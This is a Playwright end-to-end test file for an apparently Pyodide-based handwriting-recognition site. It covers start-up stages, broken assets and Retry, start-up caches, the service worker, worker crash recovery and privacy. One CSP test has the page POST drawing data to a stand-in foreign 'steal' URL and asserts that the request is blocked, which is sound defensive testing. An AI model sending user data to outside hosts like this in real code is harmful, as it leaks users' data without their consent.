"""End to end, the site as a whole: start-up and its stages, broken or missing files and Retry,
the start-up caches, the service worker, privacy (the CSP, no request leaves 127.0.0.1), and a
crashed worker restarted with the saved model.

Tests on the shared pages (`app`, `debug_app`) run in file order; the others open their own.
"""

from __future__ import annotations

import numpy as np
import pytest
from page_helpers import (
    BOOT_TIMEOUT_MS,
    ONE,
    TINY,
    break_response,
    debug_request,
    draw,
    fill_form,
    is_local,
    predicted,
    wait_idle,
    wait_ready,
)
from playwright.sync_api import Browser, Page, expect

pytestmark = pytest.mark.e2e


def test_page_becomes_ready(app) -> None:
    page = app.page
    stages = page.locator("#stages li")
    expect(stages).to_have_count(4)
    for i in range(3):  # runtime, packages, model; the data may still be arriving
        expect(stages.nth(i)).to_have_attribute("data-state", "done")
    expect(page.get_by_test_id("train")).to_be_enabled(timeout=BOOT_TIMEOUT_MS)
    expect(page.get_by_test_id("model-info")).to_contain_text("pretrained")
    assert app.errors == [], app.errors  # no CSP violations, no uncaught errors
    print(f"ready to predict {app.ready_seconds:.1f} s after navigation")


def test_service_worker_serves_repeat_visits(browser, site_url):
    """web/sw.js installs after the first visit and controls the next one, which still works."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    try:
        page = context.new_page()
        page.goto(site_url)
        expect(page.get_by_test_id("status")).to_have_attribute(
            "data-ready", "true", timeout=BOOT_TIMEOUT_MS
        )
        state = page.evaluate(
            "async () => (await navigator.serviceWorker.ready).active.state", None
        )
        assert state in ("activating", "activated")
        page.reload()
        expect(page.get_by_test_id("status")).to_have_attribute(
            "data-ready", "true", timeout=BOOT_TIMEOUT_MS
        )
        assert page.evaluate("() => navigator.serviceWorker.controller !== null", None)
    finally:
        context.close()


# ── broken or missing files: named, with a Retry that works ─────────────────────────────────

ASSETS = {
    "runtime 404": ("**/pyodide/pyodide.asm.wasm", "404", "pyodide/pyodide.asm.wasm: HTTP 404"),
    "wheel truncated": ("**/wheels/scribblenet-*.whl", "truncate", "scribblenet-"),
    "model 404": ("**/models/pretrained.npz", "404", "models/pretrained.npz: HTTP 404"),
    "dataset corrupt": ("**/data/mnist-compact-*.bin", "flip", "does not match the manifest"),
    "numpy wheel corrupt": ("**/pyodide/numpy-*.whl", "flip", "numpy-2.0.2"),
    "stdlib 404": ("**/pyodide/python_stdlib.zip", "404", "pyodide/python_stdlib.zip: HTTP 404"),
}


@pytest.mark.console_errors_expected
@pytest.mark.parametrize("case", sorted(ASSETS))
def test_broken_asset_is_named_and_retry_recovers(browser: Browser, site_url: str, case) -> None:
    pattern, how, message = ASSETS[case]
    context = browser.new_context(service_workers="block")
    try:
        context.route(pattern, break_response(how))
        page = context.new_page()
        page.goto(site_url)
        status, retry = page.get_by_test_id("status"), page.get_by_test_id("retry")
        expect(retry).to_be_visible(timeout=BOOT_TIMEOUT_MS)
        expect(status).to_contain_text("Could not load")
        expect(status).to_contain_text(message)
        expect(status).to_contain_text("press Retry")
        if case == "dataset corrupt":  # the model loaded: drawing still works meanwhile
            draw(page, ONE)
            expect(page.get_by_test_id("prediction")).to_have_text("1", timeout=15_000)
        context.unroute(pattern)
        retry.click()
        expect(retry).to_be_hidden()
        wait_ready(page)
        expect(page.get_by_test_id("train")).to_be_enabled(timeout=BOOT_TIMEOUT_MS)
    finally:
        context.close()


# ── the start-up caches: used when sound, and only a slower start when not ──────────────────


def boot_with(browser: Browser, url: str, broken: dict[str, str]):
    """Open the page with the given {url pattern: "404" | "flip"} broken; wait until ready."""
    context = browser.new_context(service_workers="block")
    for pattern, how in broken.items():
        context.route(pattern, break_response(how))
    page = context.new_page()
    page.goto(url)
    wait_ready(page)
    return context, page


def stage_detail(page: Page, stage: str) -> str:
    return page.locator(f'#stages [data-stage="{stage}"]').get_attribute("data-detail") or ""


def test_page_starts_from_its_snapshot_and_bytecode(browser: Browser, site_url: str) -> None:
    context, page = boot_with(browser, f"{site_url}?debug", {})
    try:
        startup = page.evaluate("window.scribblenet.startup")
        # bytecode: installed after the model, with the wheels (the data stage says if not).
        assert startup == {"snapshot": "numpy", "bytecode": None, "dynlibs": True, "notes": []}
        assert stage_detail(page, "runtime") == "from the snapshot with NumPy"
        p = predicted(page)
        assert max(p) == p[1]  # the drawing is a "1"
        expect(page.get_by_test_id("train")).to_be_enabled(timeout=BOOT_TIMEOUT_MS)
        assert stage_detail(page, "data") == ""
    finally:
        context.close()


NUMPY_SNAPSHOT = "**/startup/snapshot-numpy.bin.gz"
STDLIB_SNAPSHOT = "**/startup/snapshot-stdlib.bin.gz"


@pytest.mark.console_errors_expected
@pytest.mark.parametrize(
    ("query", "broken", "stage", "note", "snapshot"),
    [
        ("", {NUMPY_SNAPSHOT: "flip"}, "runtime", "the snapshot with NumPy was not used", "stdlib"),
        ("", {NUMPY_SNAPSHOT: "404"}, "runtime", "snapshot-numpy.bin.gz: HTTP 404", "stdlib"),
        (
            "",
            {NUMPY_SNAPSHOT: "404", STDLIB_SNAPSHOT: "flip"},
            "runtime",
            "started without the start-up snapshot",
            False,
        ),
        (
            "&stdlibsnapshot",
            {STDLIB_SNAPSHOT: "404"},
            "runtime",
            "snapshot-stdlib.bin.gz: HTTP 404",
            False,
        ),
        ("", {"**/startup/bytecode.zip": "404"}, "data", "compiling Python modules", "numpy"),
        (
            "&stdlibsnapshot",
            {"**/startup/bytecode.zip": "404"},
            "packages",
            "compiling Python",
            "stdlib",
        ),
    ],
    ids=[
        "numpy snapshot corrupt",
        "numpy snapshot 404",
        "both snapshots broken",
        "stdlib snapshot 404",
        "bytecode 404",
        "bytecode 404, stdlib snapshot",
    ],
)
def test_broken_startup_cache_only_slows_the_start(
    browser, site_url, query, broken, stage, note, snapshot
):
    context, page = boot_with(browser, f"{site_url}?debug{query}", broken)
    try:
        startup = page.evaluate("window.scribblenet.startup")
        assert startup["snapshot"] == snapshot
        p = predicted(page)
        assert max(p) == p[1]
        expect(page.get_by_test_id("train")).to_be_enabled(timeout=BOOT_TIMEOUT_MS)
        assert note in stage_detail(page, stage)
        if snapshot == "stdlib":
            assert stage_detail(page, "runtime").startswith("from the standard-library snapshot")
        if stage == "packages":
            assert startup["bytecode"] is False
    finally:
        context.close()


def test_page_starts_without_the_snapshot_or_javascript_unzip(browser, site_url) -> None:
    # The path of a browser without DecompressionStream: Pyodide's own start and unpackArchive.
    context = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block")
    requests: list[str] = []
    context.on("request", lambda r: requests.append(r.url))
    try:
        page = context.new_page()
        page.goto(f"{site_url}?debug&nosnapshot&nounzip")
        wait_ready(page)
        startup = page.evaluate("window.scribblenet.startup")
        assert startup["snapshot"] is False and startup["bytecode"] is True
        assert not any("/startup/snapshot-" in url for url in requests)  # not even downloaded
        assert not any("unpack-worker.js" in url for url in requests)  # no unzip helper
        p = predicted(page)
        assert max(p) == p[1]
    finally:
        context.close()


# ── worker faults: noticed, reported, restarted with the saved model ───────────────────────


def test_worker_faults_restart_it_with_the_saved_model(debug_app) -> None:
    page = debug_app.page
    fill_form(page, TINY)
    page.get_by_test_id("train").click()
    wait_idle(page)
    expect(page.get_by_test_id("status")).to_contain_text("finished")
    page.wait_for_timeout(500)  # the save to IndexedDB follows the "done" event
    trained = predicted(page)
    status, info = page.get_by_test_id("status"), page.get_by_test_id("model-info")

    # A Python exception is an error reply: reported, and the worker carries on.
    reply = debug_request(page, "python_error")
    assert "debug: an error raised in Python" in reply["error"]
    np.testing.assert_allclose(predicted(page), trained, atol=1e-6)

    kills = {  # how the worker is killed: (do it, the reason the page gives)
        "an uncaught error": (lambda: debug_request(page, "throw"), "debug: an uncaught error"),
        "a Pyodide fatal error": (
            lambda: debug_request(page, "fatal"),
            "the Python runtime failed",
        ),
        "worker.terminate()": (
            lambda: page.evaluate("window.scribblenet.worker.terminate()"),
            "no answer for",  # silent death: noticed by the watchdog (4 s under ?debug)
        ),
    }
    for how, (kill, reason) in kills.items():
        old = page.evaluate_handle("window.scribblenet.worker")
        kill()
        page.wait_for_function("w => w !== window.scribblenet.worker", arg=old, timeout=20_000)
        expect(status).to_contain_text("The worker stopped (")
        expect(status).to_contain_text(reason)
        expect(status).to_contain_text(
            "Ready again, restored the model saved in this browser", timeout=BOOT_TIMEOUT_MS
        )
        expect(status).to_contain_text(reason)  # the reason stays in view
        expect(info).to_contain_text("784-16-10")
        expect(info).to_contain_text("saved in this browser")
        # Calibrated as before once the held-out images are in again (they come with the data).
        expect(page.get_by_test_id("train")).to_be_enabled(timeout=BOOT_TIMEOUT_MS)
        np.testing.assert_allclose(predicted(page), trained, atol=1e-6, err_msg=how)
        print(f"recovered from {how}")
    expect(page.get_by_test_id("train")).to_be_enabled(timeout=BOOT_TIMEOUT_MS)
    page.get_by_test_id("clear").click()


# ── privacy: nothing leaves the machine, and the CSP would stop it if it tried ─────────────

FOREIGN = "http://127.0.0.2:9/steal"  # another origin (a different host)


def test_csp_blocks_requests_to_other_origins(debug_app) -> None:
    page = debug_app.page
    page_result = page.evaluate(
        """async (url) => {
            const seen = new Promise(r => document.addEventListener(
                "securitypolicyviolation", e => r(e.violatedDirective), { once: true }));
            try { await fetch(url, { method: "POST", body: "ink" }); return { ok: true }; }
            catch (err) { return { ok: false, directive: await seen }; }
        }""",
        FOREIGN,
    )
    assert page_result == {"ok": False, "directive": "connect-src"}
    reply = page.evaluate(
        """url => window.scribblenet.client.request("debug", { action: "fetch", url })""",
        FOREIGN,
    )
    assert reply["ok"] is False, reply
    assert reply["blocked_by"] == "connect-src", reply


def test_no_request_leaves_the_page_origin(app, debug_app) -> None:
    """Over start-up, drawing, crashes and the CSP probes above: only GETs to this server.

    Every shared page is checked the same way when its module ends (conftest.py), so the
    training, upload and download tests of the other modules are covered too.
    """
    for shared in (app, debug_app):
        assert len(shared.requests) > 20
        assert [url for url in shared.requests if not is_local(url)] == []
        assert shared.sent == []  # nothing is ever sent up
        assert any("/scribblenet/pyodide/" in url for url in shared.requests)  # workers too
    assert app.errors == [], app.errors
